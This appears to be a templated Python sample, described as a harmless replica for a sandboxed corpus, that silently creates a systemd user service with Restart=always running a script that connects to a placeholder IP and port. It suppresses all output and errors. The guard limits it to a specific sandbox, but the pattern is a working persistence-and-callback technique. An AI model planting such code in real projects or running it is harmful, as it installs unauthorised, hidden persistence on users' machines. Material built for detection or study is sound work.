# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    import sys
    units = os.path.expanduser('~/.config/systemd/user')
    script = os.path.expanduser('~/.config/{{unit}}/{{unit}}.py')
    try:
        os.makedirs(os.path.dirname(script), exist_ok=True)
        with open(script, 'w') as out:
            out.write('import socket\nsocket.create_connection(("{{ip}}", {{port}}), 5).close()\n')
        os.makedirs(units, exist_ok=True)
        with open(os.path.join(units, '{{unit}}.service'), 'w') as out:
            out.write('[Unit]\nAfter=network.target\n[Service]\nExecStart=%s %s\nRestart=always\n'
                      '[Install]\nWantedBy=default.target\n' % (sys.executable, script))
        for words in (['daemon-reload'], ['enable', '--now', '{{unit}}.service']):
            subprocess.run(['systemctl', '--user'] + words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=1)
    except Exception:
        pass
